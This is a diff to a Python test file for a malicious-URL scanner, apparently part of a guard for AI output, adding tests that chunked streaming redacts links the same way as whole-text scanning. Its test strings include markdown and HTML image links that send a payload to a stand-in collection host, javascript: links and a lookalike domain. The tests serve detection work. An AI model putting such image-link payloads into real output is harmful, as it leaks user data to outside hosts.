@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import base64
+import random
 import threading
+from collections.abc import Sequence
 from typing import Any
 
 import pytest
@@ -11,6 +13,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from promptrails_engine.errors import ConfigurationError
+from promptrails_engine.ports.scanner import Scanner
 from promptrails_scanners import malicious_urls
 from tests.scanners.data import shared_rows
 from tests.scanners.streams import released, whole
@@ -256,7 +259,7 @@ _PIECES = [
     "see ", BAD, "https://github.com/a", ".", ")", "](", "![x](", " ", "\r\n", "www.bad.xyz", "hxxp://a[.]b",
     "javascript:x",
     f"https://collect.invalid/p?d={LOAD}", "<img src='", "'", "\U0001f468\u200d\U0001f469", "user:pass@", "https://",
-    "paypa1.com/",
+    "paypa1.com/", "![a few ", "words](", "<img alt='a b' ", "src= ", "\ud83d", "[URL removed]",
 ]  # fmt: skip
 texts = st.lists(st.sampled_from(_PIECES) | st.text(max_size=8), max_size=14).map("".join)
 scanner = malicious_urls.build({})
@@ -277,6 +280,49 @@ def test_outside_the_places_the_text_stays(text: str) -> None:
 @given(texts, st.lists(st.integers(0, 300), max_size=10))
 def test_a_text_let_out_piece_by_piece_is_the_same(text: str, cuts: list[int]) -> None:
     assert released(scanner, text, cuts) == whole(scanner, text)
+
+
+def apart(one: Scanner, parts: Sequence[str]) -> str:
+    """What comes out where each part is taken out of by itself that is settled, as a stream does it."""
+    out: list[str] = []
+    held = ""
+    for part in parts:
+        held += part
+        cut = one.settled(held)
+        assert cut is not None
+        out.append(one.scan(held[:cut]).redacted or "")
+        held = held[cut:]
+    return "".join([*out, one.scan(held).redacted or ""])
+
+
+@pytest.mark.parametrize("threshold", [0.5, 0.8])
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"so ![a few words](https://collect.invalid/p?d={LOAD}) it is",
+        f"so <img alt='a few words' width=1 src= 'https://collect.invalid/p?d={LOAD}'> it is",
+        f"![x](https://collect.invalid/p?d={LOAD}) and again https://collect.invalid/p?d={LOAD} there",
+        f"https://collect.invalid/p?d={LOAD} and again ![x]( https://collect.invalid/p?d={LOAD}) there",
+        f'[a b]\n[1]: <https://collect.invalid/p?d={LOAD}> and <a href = "https://collect.invalid/q?d={LOAD}">',
+        "<a class='b c' href = javascript:alert(1)> and [x](  javascript:alert(2)) or\r\n" + BAD + "\r\nend",
+    ],
+)
+def test_a_link_is_judged_with_what_stands_before_it_however_it_comes(text: str, threshold: float) -> None:
+    one = malicious_urls.build({"use_model": False, "threshold": threshold})
+    expected = one.scan(text).redacted
+    for size in (1, 2, 3, 7, 20):
+        assert apart(one, [text[at : at + size] for at in range(0, len(text), size)]) == expected
+
+
+def test_a_thousand_cuts_come_to_the_same() -> None:
+    dice = random.Random(5)
+    for _ in range(100):
+        text = "".join(dice.choice(_PIECES) for _ in range(dice.randrange(2, 30)))
+        expected = scanner.scan(text).redacted
+        for _ in range(10):
+            cuts = sorted(dice.randrange(len(text) + 1) for _ in range(dice.choice((1, 2, 5, 20))))
+            parts = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
+            assert apart(scanner, parts) == expected, parts
 
 
 # ------------------------------------------------------------------ floors
